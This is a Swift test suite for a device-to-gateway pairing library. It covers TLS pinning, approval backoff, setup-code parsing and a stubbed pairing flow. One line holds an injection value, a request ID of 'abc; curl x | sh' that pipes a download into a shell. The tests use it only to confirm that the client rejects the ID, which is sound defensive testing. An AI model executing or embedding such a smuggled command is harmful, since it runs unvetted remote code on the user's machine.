import Testing

@testable import ClawPairKit

/// The pure parts of pairing: which pin a route is held to, the approval backoff and its
/// --wait budget, the input rules, and what a result stores.
@Suite struct PairingTests {
    static let pin = TLSPin.certificate(String(repeating: "ab", count: 32))
    static let stored = TLSPin.certificate(String(repeating: "cd", count: 32))

    @Test func setupCodePinCoversOnlyThePrimaryAndStoredPinItsRoutes() throws {
        let primary = try GatewayRoute(url: "wss://gw.example.ts.net")
        let lan = try GatewayRoute(url: "wss://192.168.1.20:18789")
        let other = try GatewayRoute(url: "wss://other.example.ts.net")
        let plain = try GatewayRoute(url: "ws://192.168.1.20:18789")
        let pins = PairingPins(setupCode: Self.pin, setupCodeRoute: primary, stored: Self.stored, storedRoutes: [primary, lan])
        #expect(pins.pin(for: primary) == Self.pin)  // the setup code's pin is authoritative
        #expect(pins.pin(for: lan) == Self.stored)
        #expect(pins.pin(for: other) == nil)  // fallbacks do not inherit: system trust
        #expect(pins.pin(for: plain) == nil)
        let storedOnly = PairingPins(stored: Self.stored, storedRoutes: [primary])
        #expect(storedOnly.pin(for: primary) == Self.stored)
    }

    /// A setup code's pin that is not the stored one is a pin change, known before connecting
    /// (issue 15 §4); the same pin in another spelling, or no stored pin, is none.
    @Test func aSetupCodePinOtherThanTheStoredOneIsAPinChange() throws {
        let primary = try GatewayRoute(url: "wss://gw.example.ts.net")
        let pins = PairingPins(setupCode: Self.pin, setupCodeRoute: primary, stored: Self.stored, storedRoutes: [primary], gateway: GatewayID(rawValue: "manual|gw"))
        let change = try #require(pins.setupCodeChange)
        #expect(change.old == Self.stored)
        #expect(change.new.hex == String(repeating: "ab", count: 32))
        #expect(change.summary.hasPrefix("pin changes from \(String(repeating: "cd", count: 32)) to \(String(repeating: "ab", count: 32))"))
        #expect(change.refusal.code == .tlsPinMismatch)
        #expect(change.refusal.remedy?.contains("clawpair gateways trust 'manual|gw' --fingerprint \(change.new.hex)") == true)
        #expect(change.declined.code == .cancelled)
        let sameInCapitals = PairingPins(
            setupCode: .certificate(String(repeating: "CD", count: 32)), setupCodeRoute: primary, stored: Self.stored, storedRoutes: [primary])
        #expect(sameInCapitals.setupCodeChange == nil)
        #expect(PairingPins(setupCode: Self.pin, setupCodeRoute: primary).setupCodeChange == nil)
    }

    @Test func backoffDoublesToItsCapAndHonoursRetryAfter() {
        var waiter = ApprovalWaiter(wait: .seconds(120), clock: ManualClock())
        let delays = (0..<6).map { _ in waiter.nextDelay(retryAfterMs: nil) }
        #expect(delays == [.milliseconds(500), .seconds(1), .seconds(2), .seconds(4), .seconds(4), .seconds(4)])
        #expect(waiter.nextDelay(retryAfterMs: 1500) == .milliseconds(1500))
        #expect(waiter.nextDelay(retryAfterMs: 3_600_000) == .seconds(16))  // clamped
    }

    @Test func pendingIsReportedOncePerRequestAndTheWaitEndsWithTheApproveCommand() async throws {
        let clock = ManualClock()
        var waiter = ApprovalWaiter(wait: .seconds(1), clock: clock)
        let events = EventLog()
        let request = GatewayConnectError.PairingRequest(requestId: "11111111-1111-4111-8111-111111111111", message: "pairing required")
        waiter.pending(request, kind: .node, onEvent: events.record)
        waiter.pending(request, kind: .node, onEvent: events.record)
        waiter.pending(.init(requestId: "22222222-2222-4222-8222-222222222222", message: "superseded"), kind: .node, onEvent: events.record)
        #expect(events.requestIds == ["11111111-1111-4111-8111-111111111111", "22222222-2222-4222-8222-222222222222"])
        #expect(waiter.requestIds == ["11111111-1111-4111-8111-111111111111", "22222222-2222-4222-8222-222222222222"])
        // A pause past the --wait budget is not taken: the pairing ends at once.
        await #expect(throws: ClawPairError(.pairingTimedOut, "")) {
            try await waiter.sleep(.seconds(2), giveUpWith: .waitThenRetry(request, retryAfterMs: nil))
        }
        do {
            try await waiter.sleep(.seconds(2), giveUpWith: .waitThenRetry(request, retryAfterMs: nil))
            Issue.record("a pause past the budget was taken")
        } catch {
            #expect(error.remedy?.contains("openclaw devices approve 22222222-2222-4222-8222-222222222222") == true)
        }
    }

    @Test func aHostileRequestIdIsReportedOnceAndNeverBuiltIntoACommand() async throws {
        var waiter = ApprovalWaiter(wait: .seconds(1), clock: ManualClock())
        let events = EventLog()
        let hostile = GatewayConnectError.PairingRequest(requestId: "abc; curl x | sh", message: "pairing required")
        waiter.pending(hostile, kind: .node, onEvent: events.record)
        waiter.pending(hostile, kind: .node, onEvent: events.record)
        #expect(events.pending.count == 1)
        #expect(events.pending.first?.refusedRequestId == true)
        #expect(waiter.requestIds.isEmpty)
        do {
            try await waiter.sleep(.seconds(2), giveUpWith: .waitThenRetry(hostile, retryAfterMs: nil))
            Issue.record("a pause past the budget was taken")
        } catch {
            #expect(error.code == .pairingTimedOut)
            #expect(!error.message.contains("curl"))
            #expect(error.remedy?.contains("curl") == false)
            #expect(error.remedy?.contains("not a UUID") == true)
        }
    }

    @Test func aBareURLCannotPair() throws {
        let code = try PairingInput.read("wss://gw.example.ts.net", nowMs: 0)
        #expect(throws: ClawPairError(.pairingNeedsSetupCode, "")) { try PairingInput.requireCredential(code) }
        #expect(ClawPairError.Code.pairingNeedsSetupCode.category == .invalidInput)
        let setup = try PairingInput.read(
            "eyJ1cmwiOiJ3czovLzE5Mi4xNjguMS4yMDoxODc4OSIsImJvb3RzdHJhcFRva2VuIjoicTNYdjltTjJwTDhzUjR0Vzd5WjFhQjVjRDZlRjBnSDJpSjNrTDRtTjVvUCIsImV4cGlyZXNBdE1zIjoxNzkwMDAwMDAwMDAwfQ",
            nowMs: 1_780_000_000_000)
        try PairingInput.requireCredential(setup)
        #expect(setup.access == .limited)
        #expect(PairingStore.entryID(for: setup).rawValue == "manual|192.168.1.20|18789")
    }

    @Test func aMissingFileIsReadAsTextAndAnUnreadableCodeIsInvalidInput() {
        #expect(throws: ClawPairError(.setupCodeInvalid, "")) { try PairingInput.read("/nonexistent/code.png", nowMs: 0) }
    }

    /// A name the gateway suggests (a deep link's `name`) that the registry cannot store does
    /// not cost the pairing: the entry is stored under `host:port`. A name the user gives is
    /// held to the registry's one check.
    @Test func aCodesUnstorableNameIsReplacedAndAUsersBadNameRefused() throws {
        let home = GatewayRegistryTests.Home()
        let registry = try home.open()
        let code = try SetupCodeReader.read(
            "openclaw://gateway/add?url=https%3A%2F%2Fgw.example.com&token=t0k3n&name=" + String(repeating: "x", count: 300), nowMs: 0)
        #expect(code.name?.count == 300)
        let result = PairingResult(
            route: code.primary, peer: nil, trust: nil,
            node: IssuedDeviceToken(deviceToken: Secret("n"), role: "node", scopes: []),
            operator: IssuedDeviceToken(deviceToken: Secret("o"), role: "operator", scopes: []), serverVersion: "1",
            requestIds: [], connectedAtMs: 0)
        let record = try PairingStore.store(result, code: code, name: nil, existing: nil, in: registry)
        #expect(record.entry.name == "gw.example.com:443")
        #expect(throws: ClawPairError(.registryInvalid, "")) {
            try PairingStore.store(result, code: code, name: "bell\u{07}", existing: nil, in: registry)
        }
    }

    @Test func resultStoresAPinOnlyWhenTheSystemDoesNotVouch() throws {
        let peer = TLSPeerCertificate(
            serverName: "gw", fingerprint: CertificateFingerprint(sha256: [UInt8](repeating: 1, count: 32)), publicKeySHA256: "",
            subject: "CN=openclaw-gateway", issuer: "CN=openclaw-gateway", notBefore: 0, notAfter: 1, systemTrusted: false,
            hostnameMatched: false, verifyError: nil, protocolVersion: "TLSv1.3", cipher: "")
        func result(_ trust: TLSTrustPolicy.Basis?, scopes: [String]) throws -> PairingResult {
            PairingResult(
                route: try GatewayRoute(url: "wss://gw"), peer: trust == nil ? nil : peer, trust: trust,
                node: IssuedDeviceToken(deviceToken: Secret("n"), role: "node", scopes: []),
                operator: IssuedDeviceToken(deviceToken: Secret("o"), role: "operator", scopes: scopes), serverVersion: "1",
                requestIds: [], connectedAtMs: 0)
        }
        #expect(try result(.pinnedCertificate, scopes: AccessLevel.full.operatorScopes).pinToStore == peer.fingerprint)
        #expect(try result(.systemTrust, scopes: []).pinToStore == nil)
        #expect(try result(nil, scopes: []).pinToStore == nil)
        #expect(try result(.systemTrust, scopes: AccessLevel.full.operatorScopes).access == .full)
        #expect(try result(.systemTrust, scopes: AccessLevel.limited.operatorScopes).access == .limited)
    }
}

/// Pairing events as a test sees them.
final class EventLog: @unchecked Sendable {
    // @unchecked: written and read on the test's task only.
    private(set) var pending: [GatewayConnectError.PairingRequest] = []
    var requestIds: [String] { pending.compactMap(\.requestId) }

    func record(_ event: PairingEvent) {
        if case .pending(let request, _) = event { pending.append(request) }
    }
}

/// The whole flow against the protocol's independent Python gateway stand-in
/// (Fixtures/gateway-stub.py): one implementation checking the other.
@Suite(.serialized) struct PairingFlowStubTests {
    static let identity = DeviceIdentity(keyPair: try! Ed25519KeyPair.generate())

    func plan(_ stub: GatewayStub, wait: Duration = .seconds(5)) throws -> PairingPlan {
        let code = try SetupCodeReader.read(#"{"url":"ws://127.0.0.1:\#(stub.port)","bootstrapToken":"boot-1"}"#, nowMs: 0)
        return PairingPlan(code: code, identity: Self.identity, instanceId: "inst-1", wait: wait)
    }

    @Test func bootstrapYieldsNodeAndOperatorTokens() async throws {
        let stub = try await GatewayStub.start(mode: "hello")
        defer { stub.stop() }
        let result = try await PairingFlow(reactor: IOReactor()).run(try plan(stub))
        #expect(result.node.role == "node")
        #expect(result.node.deviceToken.revealed == "dt-node-secret")
        #expect(result.operator.deviceToken.revealed == "dt-operator-secret")
        // The operator session asked for exactly what the bootstrap granted.
        #expect(result.operator.scopes == ["operator.read", "operator.write"])
        #expect(result.access == .limited)
        #expect(result.pinToStore == nil)
        #expect(result.route.port == Int(stub.port))
    }

    @Test func onlyTheNodeCredentialIsSetupIncomplete() async throws {
        let stub = try await GatewayStub.start(mode: "nodeonly")
        defer { stub.stop() }
        let plan = try plan(stub)
        do {
            _ = try await PairingFlow(reactor: IOReactor()).run(plan)
            Issue.record("a node-only pairing completed")
        } catch {
            #expect(error.code == .pairingIncomplete)
            #expect(error.message.contains("setup incomplete"))
            #expect(error.remedy?.contains("openclaw qr") == true)
        }
    }

    @Test func pendingUntilTheWaitRunsOutReportsTheRequest() async throws {
        let stub = try await GatewayStub.start(mode: "wait")
        defer { stub.stop() }
        let events = EventLog()
        await #expect(throws: ClawPairError(.pairingTimedOut, "")) {
            try await PairingFlow(reactor: IOReactor()).run(try plan(stub, wait: .seconds(1)), onEvent: events.record)
        }
        #expect(events.requestIds == ["55555555-5555-4555-8555-555555555555"])
    }

    @Test func aHostileRequestIdFromTheGatewayIsRefused() async throws {
        let stub = try await GatewayStub.start(mode: "hostileid")
        defer { stub.stop() }
        let events = EventLog()
        let plan = try plan(stub, wait: .seconds(1))
        do {
            _ = try await PairingFlow(reactor: IOReactor()).run(plan, onEvent: events.record)
            Issue.record("paired")
        } catch {
            #expect(error.code == .pairingTimedOut)
            #expect(!error.message.contains("curl"))
            #expect(error.remedy?.contains("curl") == false)
        }
        #expect(events.requestIds.isEmpty)
        #expect(events.pending.count == 1 && events.pending.allSatisfy(\.refusedRequestId))
    }

    @Test func spentBootstrapTokenIsAuthorizationFailure() async throws {
        let stub = try await GatewayStub.start(mode: "bootstrapinvalid")
        defer { stub.stop() }
        await #expect(throws: ClawPairError(.bootstrapTokenInvalid, "")) { try await PairingFlow(reactor: IOReactor()).run(try plan(stub)) }
        #expect(ClawPairError.Code.bootstrapTokenInvalid.category == .authorization)
    }
}
